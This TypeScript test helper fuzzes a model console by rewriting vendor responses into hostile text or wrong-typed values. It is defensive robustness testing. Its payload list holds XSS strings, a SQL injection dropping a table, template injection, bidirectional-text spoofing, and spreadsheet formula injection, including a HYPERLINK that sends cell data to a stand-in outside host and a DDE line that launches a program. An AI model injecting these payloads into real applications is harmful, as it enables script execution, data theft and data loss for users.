/**
 * Answers of a malicious vendor, or of one that passes on its users' malicious texts. Replaces
 * texts with hostile ones, or values with values of another type.
 */

/** Malicious texts for every place where a console reads, shows, stores and sends text. */
export const hostileWords = [
  `<img src=x onerror="window.ranHostile=1">`,
  `"><script>window.ranHostile=1</script>`,
  `</textarea><svg onload="window.ranHostile=1">`,
  `javascript:window.ranHostile=1`,
  `'; DROP TABLE runs; --`,
  `{{constructor.constructor('window.ranHostile=1')()}}`,
  `\u202egnp.exe \u0007 \ud83d\ude00`,
  "W".repeat(3000),
  `</script><script>window.ranHostile=1</script>`,
  `<a href="javascript:window.ranHostile=1">here</a><iframe srcdoc="<script>parent.ranHostile=1</script>">`,
  `=HYPERLINK("https://elsewhere.example/?"&A1,"open")`,
  "\u200b@SUM(1+1)*cmd|' /C calc'!A0",
  "\u0000nothing\u0000 between\u0000",
  "half a letter \ud800 and \udc00 another",
  "\u2067\u202etxet fo tol A\u202c\u2069 ".repeat(20),
  "lorem ipsum ".repeat(8500),
  `[open](javascript:window.ranHostile=1) ![x](https://elsewhere.example/p.gif)`,
];

export type Hostility = "words" | "types";

/**
 * Keeps addresses, ids, dates, numbers and state names. If these changed, the console would make no
 * further requests.
 */
const leads = /^(?:[a-z][\w.-]{0,24}|\S+@\S+\.\S+|https?:\/\/\S+|[\w=+/:.,-]*\d[\w=+/:.,-]*|[A-Z_]{2,30})$/;

const deep = (levels: number): unknown => {
  let value: unknown = "deep";
  for (let level = 0; level < levels; level++) value = level % 2 === 0 ? [value] : { value };
  return value;
};

interface Counter {
  next: number;
}

const nextWord = (at: Counter) => hostileWords[at.next++ % hostileWords.length] ?? "";

function inWords(value: unknown, at: Counter): unknown {
  if (Array.isArray(value)) return value.map((each) => inWords(each, at));
  if (typeof value === "object" && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, inWords(each, at)]));
  if (typeof value !== "string" || leads.test(value)) return value;
  // A model's answer is JSON inside a text.
  const inside = /^\s*[[{]/.test(value) ? parsed(value) : undefined;
  return inside === undefined ? nextWord(at) : JSON.stringify(inWords(inside, at));
}

const otherTypes: ((value: unknown) => unknown)[] = [
  () => null,
  (value) => [value],
  () => ({}),
  () => -1e308,
  (value) => JSON.stringify(value),
  () => true,
  () => deep(2000),
];

/** Changes the type of every seventh value and keeps the text of the others. */
function inTypes(value: unknown, at: Counter): unknown {
  at.next += 1;
  if (at.next % 7 === 0) return otherTypes[Math.floor(at.next / 7) % otherTypes.length]?.(value);
  if (Array.isArray(value)) return value.map((each) => inTypes(each, at));
  if (typeof value === "object" && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, inTypes(each, at)]));
  const inside = typeof value === "string" && /^\s*[[{]/.test(value) ? parsed(value) : undefined;
  return inside === undefined ? value : JSON.stringify(inTypes(inside, at));
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}

const escaped = (word: string) =>
  word.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("\u0000", "");

/** Replaces text between tags; escapes it in XML, so that the document stays valid. */
function inMarkup(markup: string, isXml: boolean, at: Counter): string {
  return markup.replaceAll(/>([^<>]*\p{L}[^<>]*)</gu, (whole, words: string) =>
    leads.test(words.trim()) || /[{};]\s*$/.test(words)
      ? whole
      : `>${isXml ? escaped(nextWord(at)) : nextWord(at)}<`,
  );
}

let asked = 0;

/** Returns a hostile version of an answer with the same status and headers. */
export async function hostileAnswer(answer: Response, how: Hostility): Promise<Response> {
  const type = answer.headers.get("content-type") ?? "";
  if (!/json|html|xml|text|event-stream/.test(type) || answer.body === null) return answer;
  // Each answer starts with another text.
  const at = { next: (asked += 1) };
  const change = (value: unknown) => (how === "words" ? inWords(value, at) : inTypes(value, at));
  const text = await answer.text();
  const json = parsed(text);
  const changed =
    typeof json === "object" && json !== null
      ? JSON.stringify(change(json))
      : type.includes("event-stream")
        ? text.replaceAll(/^data: (\{.*)$/gm, (whole, data: string) =>
            parsed(data) === undefined ? whole : `data: ${JSON.stringify(change(parsed(data)))}`,
          )
        : inMarkup(text, type.includes("xml"), at);
  const headers = new Headers(answer.headers);
  headers.delete("content-length");
  return new Response(changed, { status: answer.status, statusText: answer.statusText, headers });
}
